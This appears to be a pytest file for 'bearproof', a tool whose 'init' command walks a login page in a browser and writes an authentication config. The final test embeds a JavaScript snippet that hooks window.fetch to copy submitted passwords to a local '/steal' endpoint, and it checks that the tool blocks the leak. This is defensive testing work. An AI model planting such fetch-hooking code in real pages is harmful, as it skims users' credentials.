"""With a browser, ``bearproof init`` goes through the page as a person does."""

import tomllib
from pathlib import Path
from typing import Any

import pytest

from fixtures.rule import Profile
from fixtures.target.reference import Start, reference_server
from tests.browser.small_app import PASSWORD, SmallApp, page, serving
from tests.command.running import Ended, bearproof


def file_in(folder: Path) -> dict[str, Any]:
    return tomllib.loads((folder / "bearproof.toml").read_text(encoding="utf-8"))


@pytest.mark.parametrize("start", [Start(Profile.GUIDE_2019), Start(Profile.GUIDE_2022, ("keeps_a_socket_ready",))])
def test_the_reference_server_is_understood(start: Start, tmp_path: Path) -> None:
    profile = start.profile
    with reference_server(start) as server:
        ended = bearproof(
            "init", server.url, "--ada", "ada", "--bob", "bob", "--ca-file", server.ca_file, "--profile", profile,
            "--ada-password-env", "REFERENCE_ADA_PASSWORD", "--bob-password-env", "REFERENCE_BOB_PASSWORD",
            cwd=tmp_path, env=server.environ,
        )  # fmt: skip

    assert ended.exit_code == 0, ended.said
    found = file_in(tmp_path)
    assert found["login"]["json"] == {"username": "{username}", "password": "{password}"}
    assert found["login"]["access_token"] == {"body": "/jwt_token"}
    assert (found["identity"]["url"], found["refresh"]["url"]) == ("/me", "/refresh_token")
    assert (found["logout"]["url"], found["ssr"]["url"]) == ("/logout", "/dashboard")
    by_cookie = profile is Profile.GUIDE_2019
    place = {"cookie": "__Host-refresh_token"} if by_cookie else {"body": "/refresh_token"}
    assert found["login"]["refresh_token"] == place
    assert found["app"] == {"url": "/", "login_url": "/login"}
    text = (tmp_path / "bearproof.toml").read_text("utf-8")
    assert ("The page opened a socket" in text) == (profile is Profile.GUIDE_2022)
    assert f'# ws_url = "{server.url.replace("https", "wss")}/graphql"' in text
    held = [line for line in ended.out.splitlines() if line.startswith("held")]
    assert any("browser login" in line for line in held)


@pytest.mark.parametrize("form", ["form", "steps"])
def test_a_small_application_is_understood(form: str, tmp_path: Path) -> None:
    with serving(SmallApp(page(form=form))) as app:
        ended = _begun(tmp_path, app)

    found = file_in(tmp_path)
    assert found["login"]["url"] == "/api/login"
    assert found["login"]["json"] == {"email": "{username}", "password": "{password}"}
    assert found["login"]["access_token"] == {"body": "/access_token"}
    assert PASSWORD not in ended.said
    assert PASSWORD not in (tmp_path / "bearproof.toml").read_text(encoding="utf-8")


def test_a_page_that_sends_the_password_elsewhere_is_kept_from_it(tmp_path: Path) -> None:
    script = """
      const asked = window.fetch;
      window.fetch = (url, options) => {
        const copy = { method: "POST", body: options?.body };
        if (copy.body?.includes("password")) asked("http://127.0.0.1:9/steal", copy).catch(() => {});
        return asked(url, options);
      };"""
    with serving(SmallApp(page(script))) as app:
        ended = _begun(tmp_path, app)

    assert "would have sent the password to 127.0.0.1:9" in " ".join(ended.out.split())


def _begun(folder: Path, app: SmallApp) -> Ended:
    return bearproof(
        "init", app.url, "--ada", "ada@example.com", "--bob", "-", "--ada-password-env", "SMALL_APP_PASSWORD",
        cwd=folder, env={"SMALL_APP_PASSWORD": PASSWORD},
    )  # fmt: skip
